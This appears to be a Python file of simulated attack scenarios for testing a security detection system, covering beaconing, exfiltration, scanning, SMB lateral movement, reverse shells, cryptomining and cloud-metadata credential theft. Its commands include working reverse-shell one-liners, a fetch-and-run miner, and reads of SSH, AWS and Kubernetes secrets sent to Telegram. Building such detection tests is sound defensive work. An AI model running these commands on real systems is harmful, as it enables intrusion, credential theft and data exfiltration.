"""Blind, the fourth lot: written without a look at the detectors. What leaves, calls home, and ways on inside."""

from __future__ import annotations

import os

from proving import bundles, netns
from proving.hosts import Reply
from proving.operators import waits
from proving.scenario import Must, Repeat, attack
from proving.scenarios.ai_servers import US
from proving.scenarios.blind_third_attacks_ai import serves
from proving.scenarios.movement import stratum, talk
from proving.world import ScenarioError, World

NOT = ("port-scan", "lateral-movement", "cryptomining")
MAY = ("unexpected-process", "baseline-deviation", "beaconing")
PORTAL, REPORTS = "portal.service", "reports.service"


@attack(
    "blind4-beacon-container-wget",
    "a shell loop in a container has wget post that it is alive every 1.8 seconds, give or take 30 %",
    must=(Must("beaconing", "container:", "pkg-status.example", within=8 * 1.8 * 1.3 + 1.5),),
    may=("unexpected-process", "baseline-deviation"),
    must_not=(*NOT, "data-exfiltration"),
    tools=("runc", "wget"),
)
def container_wget(world: World) -> None:
    home = world.host("203.0.113.240", "eu.pkg-status.example")
    home.http(80, lambda asked: Reply("{}"))
    container = bundles.start(world, "sleep", "60")
    sleeps = "1.3 2.2 1.8 1.5 2.3 1.9 1.4 2.0 1.6 2.3 1.7 1.3 2.1"
    line = f"for s in {sleeps}; do wget -qO- --post-data=h=$s http://eu.pkg-status.example/v1/ping; sleep $s; done"
    try:
        world.sleep(0.5)
        world.mark()
        container.execute("sh", "-c", line, timeout=40)
    finally:
        container.end()
    assert len(home.requests) == 13


REPORT = """
require 'net/http'
5.times do |n|
  web = Net::HTTP.new('intake.print-partner.example', 443)
  web.use_ssl = true
  web.put("/reports/#{n}", 'row;' * 700 + n.to_s)
  sleep 2
end
"""


@attack(
    "blind4-exfil-known-partner",
    "a service has sent a partner 3 kB at a time for 40 minutes; a shell of it then sends 14 MB to the same partner's host",
    must=(Must("data-exfiltration", REPORTS, "print-partner.example", within=6.5),),
    may=MAY,
    must_not=NOT,
    minutes=40.0,
    repeats={"report": Repeat(12.0, 0.3)},
    tools=("ruby", "curl"),
)
def known_partner(world: World) -> None:
    """A megabyte each 0.6 seconds: ten have left after 6 seconds; half a second for the starts of ten curls."""
    partner = world.host("198.51.100.240", "intake.print-partner.example")
    partner.http(443, lambda asked: Reply(b"", 201), tls=True)
    world.file("/srv/reports/all.bin", os.urandom(1 << 20))
    actor = world.start("ruby", world.file("/srv/reports/send.rb", REPORT), unit=REPORTS)
    world.wait(lambda: len(partner.requests) >= 2, "no second report", 20)
    world.sleep(1.0)
    with world.loop("report"):
        world.sleep(2.0)
    actor.wait()
    put = "curl -s -T /srv/reports/all.bin https://intake.print-partner.example/reports/x$n"
    world.mark()
    world.run("sh", "-c", f"for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14; do {put}; sleep 0.55; done", unit=REPORTS)
    assert partner.received > 14 << 20


@attack(
    "blind4-scan-nc-container",
    "a shell in a container has xargs start an nc for each of 44 hosts inside, three at once, to see who has SMB",
    must=(Must("port-scan", "container:", within=3.0),),
    may=("lateral-movement", "unexpected-process", "baseline-deviation"),
    must_not=("beaconing", "data-exfiltration", "cryptomining"),
    tools=("runc", "ncat", "xargs"),
)
def nc_container(world: World) -> None:
    """Ports without a listener are closed, so that each nc ends at once: no nc sees more than one host."""
    world.host("10.77.90.17").listen(445, talk)
    container = bundles.start(world, "sleep", "60")
    try:
        world.sleep(0.5)
        world.mark()
        line = "seq 2 45 | xargs -P 3 -I{} sh -c 'ncat -zw1 10.77.90.{} 445 && echo {}; sleep 0.1'; true"
        said = container.execute("sh", "-c", line)
        world.sleep(1.0)
    finally:
        container.end()
    if said.split() != ["17"]:
        raise ScenarioError(said)


SMB = r"""
import socket, sys, time
NEGOTIATE = b'\xfeSMB\x40\0' + bytes(6) + b'\0\0\x1f\0' + bytes(48) + b'\x24\0\x02\0\x01\0' + bytes(30) + b'\x02\x02\x10\x02'
for host in sys.argv[1:]:
    with socket.create_connection((host, 445), 3) as peer:
        for body in (NEGOTIATE, NEGOTIATE[:64] + b'NTLMSSP\0' + bytes(90), NEGOTIATE[:64] + '\\\\x\\ADMIN$'.encode('utf-16le'),
                     NEGOTIATE[:64] + 'svcctl CreateServiceW cmd.exe'.encode('utf-16le')):
            peer.sendall(len(body).to_bytes(4, 'big') + body)
            peer.recv(4096)
    time.sleep(0.9)
print('done')
"""


@attack(
    "blind4-lateral-psexec",
    "a web application's Python child opens ADMIN$ and the service manager of nine hosts inside that it never talked to, by SMB",
    imitates="impacket's psexec.py (ATT&CK T1021.002)",
    must=(Must("lateral-movement", PORTAL),),
    may=("port-scan", "unexpected-process", "baseline-deviation"),
    must_not=("beaconing", "data-exfiltration", "cryptomining"),
)
def psexec(world: World) -> None:
    hosts = [f"10.77.{100 + n % 2}.{11 + 13 * n}" for n in range(9)]
    for host in hosts:
        world.host(host).listen(445, talk)
    path = world.file("/srv/portal/var/tmp/ps.py", SMB)
    world.mark()
    said = world.run("sh", "-c", f"{world.python} {path} {' '.join(hosts)}; true", unit=PORTAL)
    if "done" not in said:
        raise ScenarioError(said)


@attack(
    "blind4-rshell-curl-telnet",
    "a sh between two curls that speak telnet: what comes through one is run, what it prints goes out through the other",
    must=(Must("reverse-shell", PORTAL, "203.0.113.241", within=2.0),),
    may=MAY,
    must_not=(*NOT, "data-exfiltration"),
    tools=("curl",),
)
def curl_telnet(world: World) -> None:
    """One of the usual one-liners. The first command comes 0.7 seconds after the connection."""
    operator = waits(world, "203.0.113.241", 9001)
    curl = "curl -Ns telnet://203.0.113.241:9001"
    world.mark()
    world.run("sh", "-c", f"{curl} < /dev/null 2>&1 | sh 2>&1 | {curl} > /dev/null; true", unit=PORTAL)
    if not operator.answered:
        raise ScenarioError(str(operator.heard))


MINER = r"""
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(int n, char **words) {
    char host[99], port[9], answer[4096];
    struct addrinfo *found, hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM};
    sscanf(words[4], "stratum+tcp://%98[^:]:%8s", host, port);
    if (getaddrinfo(host, port, &hints, &found)) return 1;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, found->ai_addr, found->ai_addrlen)) return 2;
    dprintf(s, "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"T-Rex/0.26.8\"]}\n");
    if (read(s, answer, sizeof answer) < 1) return 3;
    dprintf(s, "{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"%s\",\"x\"]}\n", words[6]);
    for (int k = 3; k < 8 && read(s, answer, sizeof answer) > 0; k++, sleep(2))
        dprintf(s, "{\"id\":%d,\"method\":\"mining.submit\",\"params\":[\"%s\",\"%d\",\"0x%08x\"]}\n",
                k, words[6], k, k * 7919);
    return 0;
}
"""


@attack(
    "blind4-mining-gpu",
    "a web application's shell fetches a miner for graphics cards, which works for a known pool of Ravencoin",
    must=(Must("cryptomining", PORTAL, within=10.0),),
    may=MAY,
    must_not=("port-scan", "lateral-movement", "data-exfiltration"),
    tools=("gcc", "curl"),
)
def gpu(world: World) -> None:
    world.run("gcc", "-w", "-O1", "-o", "/srv/t-rex", world.file("/srv/t-rex.c", MINER))
    program = world.path("/srv/t-rex").read_bytes()
    github = world.host("198.51.100.70", "github.com")
    github.http(443, lambda asked: Reply(program), tls=True)
    world.host("198.51.100.241", "rvn.2miners.com").listen(6060, stratum)
    world.mark()
    fetch = "mkdir -p /tmp/.nv && curl -sLo /tmp/.nv/t-rex https://github.com/trexminer/T-Rex/releases/download/0.26.8/t-rex"
    pool = "-a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u RBX1G6nYDMHVtyaZiQWySMZw1Bb2DEDpT8.rig -p x"
    world.run("sh", "-c", f"{fetch} && chmod +x /tmp/.nv/t-rex && /tmp/.nv/t-rex {pool}; true", unit=PORTAL)


@attack(
    "blind4-metadata-ecs",
    "a web application's shell asks for the credentials of its ECS task at 169.254.170.2, by wget",
    imitates="Kinsing and TeamTNT: AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    must=(Must("metadata-service-access", PORTAL, within=1.0),),
    may=("credential-access", "lateral-movement", *MAY),
    must_not=("port-scan", "cryptomining", "data-exfiltration"),
    tools=("wget",),
)
def ecs(world: World) -> None:
    there = f"{netns.PREFIX}{world.net.id}-srv"
    netns.ip("-n", there, "route", "add", "local", "169.254.170.2/32", "dev", "eth0")
    task = world.host("169.254.170.2")
    role = {"RoleArn": "arn:aws:iam::1:role/portal", "AccessKeyId": "ASIAX", "SecretAccessKey": "x", "Token": "x"}
    task.http(80, lambda asked: Reply(role))
    where = {"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI": "/v2/credentials/4f1c2c1e-6a0e-4f6c-a0f5-6d6b1c9a1a55"}
    world.mark()
    line = "env | grep AWS_; wget -qO- http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI; true"
    said = world.run("sh", "-c", line, env=where, unit=PORTAL)
    if "RoleArn" not in said:
        raise ScenarioError(said)


@attack(
    "blind4-api-model-keys",
    "a stranger tries 70 keys that he makes up on our vLLM, four a second: all are refused",
    must=(Must("api-access-violation", "llm.service", "203.0.113.242"),),
    may=("baseline-deviation", "llmjacking", "model-enumeration"),
    must_not=(*NOT, "data-exfiltration", "unauthenticated-model-server"),
)
def model_keys(world: World) -> None:
    """vLLM was started with --api-key, and refuses as it does."""
    refused: dict[str, tuple[int, object]] = {
        "POST": (401, {"error": "Unauthorized"}),
        "GET": (401, {"error": "Unauthorized"}),
    }
    words = ("serve", "org/model-7b", "--api-key", "token-abc123")
    actor = serves(world, "/srv/venv/bin/vllm", 8000, refused, "llm.service", *words)
    stranger = world.host("203.0.113.242")
    world.mark()
    body = b'{"model": "org/model-7b", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 5}'
    for number in range(70):
        headers = {"content_type": "application/json", "authorization": f"Bearer sk-{number * 7919:012x}"}
        assert stranger.ask(US, 8000, "POST", "/v1/chat/completions", body, **headers)[0] == 401
        world.sleep(0.13)
    actor.stop()


@attack(
    "blind4-chain-container",
    "a shell for somebody beyond in a web application's container, who asks Azure for a token, reads other credentials, "
    "and sends 12 MB to Telegram's bots",
    must=(
        Must("reverse-shell", "container:", "203.0.113.243"),
        Must("metadata-service-access", "container:"),
        Must("credential-access", "container:"),
        Must("data-exfiltration", "container:", "telegram.org"),
    ),
    may=("lateral-movement", *MAY),
    must_not=("port-scan", "cryptomining"),
    tools=("runc", "curl", "bash"),
)
def chain(world: World) -> None:
    """bash reads from a descriptor on /dev/tcp and carries each line out; it is a child of the container's first process."""
    for name in ("id_ed25519", "credentials"):
        world.file(f"/srv/secret/.{'ssh' if name[0] == 'i' else 'aws'}/{name}", "x" * 300, 0o600)
    world.file("/srv/sa/token", "eyJhbGciOiJSUzI1NiJ9.e30.x")
    world.file("/srv/data/ca.pem", world.path("/srv/ca.pem").read_bytes())
    world.file("/srv/data/customers.db", os.urandom(4 << 20))
    cloud = world.host("169.254.169.254")
    cloud.http(80, lambda asked: Reply({"access_token": "eyJ0", "token_type": "Bearer"}))
    bots = world.host("198.51.100.242", "api.telegram.org")
    bots.http(443, lambda asked: Reply({"ok": True}), tls=True)
    send = "curl -s --cacert /data/ca.pem -F chat_id=1 -F document=@/data/customers.db"
    questions = (
        "id",
        "curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?resource=https://vault.azure.net'",
        "cat /run/secrets/kubernetes.io/serviceaccount/token /root/.aws/credentials /root/.ssh/id_ed25519",
        *(f"{send} https://api.telegram.org/bot71:AAx/sendDocument" for _ in range(3)),
    )
    operator = waits(world, "203.0.113.243", 9001, questions=questions)
    shell = 'exec 5<>/dev/tcp/203.0.113.243/9001; while read -r l <&5; do eval "$l" >&5 2>&1; done'
    first = f"until test -e /tmp/go; do sleep 0.2; done; bash -c '{shell}'; sleep 30"
    binds = [("/srv/secret", "/root"), ("/srv/sa", "/run/secrets/kubernetes.io/serviceaccount"), ("/srv/data", "/data")]
    container = bundles.start(world, "sh", "-c", first, binds=binds)
    try:
        world.sleep(0.5)
        world.mark()
        world.path(f"/srv/containers/{container.id[:12]}/rootfs/tmp/go").touch()
        world.wait(lambda: bots.received > 12 << 20, "not all was sent", 20)
        world.sleep(1.5)
    finally:
        container.end()
    if not operator.answered or not cloud.requests or b"eyJhbGci" not in operator.heard[0]:
        raise ScenarioError(str(operator.heard))
